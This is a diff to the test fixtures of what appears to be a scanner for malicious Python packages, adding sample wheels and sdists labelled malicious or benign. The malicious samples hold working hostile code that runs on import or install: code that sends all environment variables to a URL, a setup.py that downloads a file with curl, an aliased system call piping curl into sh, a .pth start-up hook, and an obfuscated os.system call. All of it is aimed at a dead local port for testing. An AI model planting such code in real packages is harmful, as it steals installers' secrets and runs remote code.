@@ -25,6 +25,7 @@ def wheel(
     summary: str = "A test package",
     record: bool = True,
     tamper: str = "",
+    requires: str = "",
 ) -> bytes:
     """A wheel with METADATA, WHEEL and a correct RECORD (unless told otherwise)."""
     info = f"{name}-{version}.dist-info"
@@ -32,6 +33,7 @@ def wheel(
     contents[f"{info}/METADATA"] = (
         f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
         + (f"Summary: {summary}\n" if summary else "")
+        + requires
     ).encode()
     contents[f"{info}/WHEEL"] = (
         b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
@@ -51,11 +53,12 @@ def wheel(
     return buffer.getvalue()
 
 
-def sdist(name: str, version: str, files: dict[str, str]) -> bytes:
+def sdist(name: str, version: str, files: dict[str, str], *, extra_metadata: str = "") -> bytes:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
         root = f"{name}-{version}"
         pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: test\n"
+        pkg_info += extra_metadata
         for path, text in {"PKG-INFO": pkg_info, **files}.items():
             data = text.encode()
             member = tarfile.TarInfo(f"{root}/{path}")
@@ -402,6 +405,92 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Issue 16, chains across files: import or install time reaches a sink through a
+    # function of another module of the same package.
+    "exfiltration:environment-across-files": (
+        "telemetry-0.1-py3-none-any.whl",
+        wheel(
+            "telemetry",
+            "0.1",
+            {
+                "telemetry/__init__.py": "from .report import send\n\nsend()\n",
+                "telemetry/report.py": "import json, os, urllib.request\n\n\ndef send():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9/c', body)\n",
+            },
+        ),
+    ),
+    "dropper:setup-calls-package-module": (
+        "buildhelp-0.1.tar.gz",
+        sdist(
+            "buildhelp",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nfrom buildhelp.steps import prepare\n\nprepare()\nsetup(name='buildhelp', version='0.1')\n",
+                "buildhelp/__init__.py": "",
+                "buildhelp/steps.py": "import subprocess\n\n\ndef prepare():\n    subprocess.call('curl -s http://127.0.0.1:9/x -o /tmp/x', shell=True)\n",
+            },
+        ),
+    ),
+    "dropper:relative-module-on-import": (
+        "relimp-0.1-py3-none-any.whl",
+        wheel(
+            "relimp",
+            "0.1",
+            {
+                "relimp/__init__.py": "from . import _boot\n\n_boot.start('http://127.0.0.1:9/p')\n",
+                "relimp/_boot.py": "import subprocess\n\n\ndef start(url):\n    subprocess.Popen(['python', '-c', 'print(1)', url])\n",
+            },
+        ),
+    ),
+    # A .pth that calls its own package's function: the function runs at every start-up.
+    "dropper:pth-calls-own-module": (
+        "pthrun-0.1-py3-none-any.whl",
+        wheel(
+            "pthrun",
+            "0.1",
+            {
+                "pthrun.pth": "import pthrun; pthrun.run()\n",
+                "pthrun/__init__.py": "import subprocess\n\n\ndef run():\n    subprocess.Popen(['python', '-c', 'print(1)'])\n",
+            },
+        ),
+    ),
+    # Sinks named only by an alias or by a string built on the spot (prefilter words absent).
+    "dropper:aliased-sink-in-function": (
+        "aliased-0.1-py3-none-any.whl",
+        wheel(
+            "aliased",
+            "0.1",
+            {
+                "aliased/__init__.py": "from os import system as s1\n\n\ndef update():\n    s1('curl -s http://127.0.0.1:9/u | sh')\n",
+            },
+        ),
+    ),
+    "hidden-process:built-attribute-name": (
+        "builtname-0.1-py3-none-any.whl",
+        wheel(
+            "builtname",
+            "0.1",
+            {"builtname/__init__.py": "import os as o\n\ngetattr(o, 'sys' + 'tem')('id')\n"},
+        ),
+    ),
+    # A top-level import of a stdlib look-alike the package neither ships nor declares.
+    "stdlib-lookalike-import": (
+        "sockreq-0.1-py3-none-any.whl",
+        wheel(
+            "sockreq",
+            "0.1",
+            {"sockreq/__init__.py": "import sockets\n\n\ndef get(url):\n    return url\n"},
+        ),
+    ),
+    # A project shipping another project's import package, named by its own homepage.
+    "impostor-package": (
+        "acme-upgrade-1.0.tar.gz",
+        sdist(
+            "acme-upgrade",
+            "1.0",
+            {"acme_widgets/__init__.py": "def widget():\n    return 1\n"},
+            extra_metadata="Project-URL: Homepage, https://github.com/example/acme-widgets\n",
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     "tidy-1.0-py3-none-any.whl": wheel(
@@ -459,6 +548,24 @@ BENIGN: dict[str, bytes] = {
             "shim/__init__.py": "import os\n\n\ndef config():\n"
             "    return open(os.path.expanduser('~/.aws/config')).read()\n",
         },
+    ),
+    # Calls across files that reach no chain, a declared backport one letter from the
+    # standard library, and a project named after its import package (python- prefix).
+    "layered-1.0-py3-none-any.whl": wheel(
+        "layered",
+        "1.0",
+        {
+            "layered/__init__.py": "import ujson\nfrom ._version import get_version\nfrom .net import fetch\n\n__version__ = get_version()\n",
+            "layered/_version.py": "def get_version():\n    return '1.0'\n",
+            "layered/net.py": "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
+        },
+        requires="Requires-Dist: ujson\n",
+    ),
+    "python-gadget-1.0.tar.gz": sdist(
+        "python-gadget",
+        "1.0",
+        {"gadget/__init__.py": "def gadget():\n    return 1\n"},
+        extra_metadata="Project-URL: Source, https://github.com/example/gadget\n",
     ),
     "plain-2.1.tar.gz": sdist(
         "plain",
